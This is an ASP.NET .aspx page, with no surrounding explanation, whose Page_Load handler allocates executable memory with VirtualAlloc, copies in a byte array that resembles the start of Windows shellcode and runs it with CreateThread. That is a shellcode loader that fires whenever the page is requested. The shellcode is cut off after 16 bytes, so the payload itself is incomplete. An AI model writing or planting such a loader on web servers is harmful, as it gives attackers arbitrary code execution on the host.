<%@ Page Language="C#" AutoEventWireup="true" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    private static UInt32 MEM_COMMIT=0x1000;
    private static UInt32 PAGE_EXECUTE_READWRITE=0x40;

    [System.Runtime.InteropServices.DllImport("kernel32")]
    private static extern UInt32 VirtualAlloc(UInt32 lpStartAddr,UInt32 size,UInt32 flAllocationType,UInt32 flProtect);

    [System.Runtime.InteropServices.DllImport("kernel32")]
    private static extern IntPtr CreateThread(UInt32 lpThreadAttributes,UInt32 dwStackSize, UInt32 lpStartAddress,IntPtr param,UInt32 dwCreationFlags,ref UInt32 lpThreadId);

    protected void Page_Load(object sender, EventArgs e)
    {
        byte[] uNmw = new byte[16] {0xfc,0xe8,0x82,0x00,0x00,0x00,0x60,0x89,0xe5,0x31,0xc0,0x64,0x8b,0x50,0x30,0x8b};

        UInt32 kXzQ = VirtualAlloc(0,(UInt32)uNmw.Length,MEM_COMMIT,PAGE_EXECUTE_READWRITE);
        System.Runtime.InteropServices.Marshal.Copy(uNmw,0,(IntPtr)(kXzQ),uNmw.Length);
        IntPtr pHt = IntPtr.Zero;
        IntPtr pIn = IntPtr.Zero;
        UInt32 tId = 0;
        pHt = CreateThread(0,0,kXzQ,pIn,0,ref tId);
    }
</script>
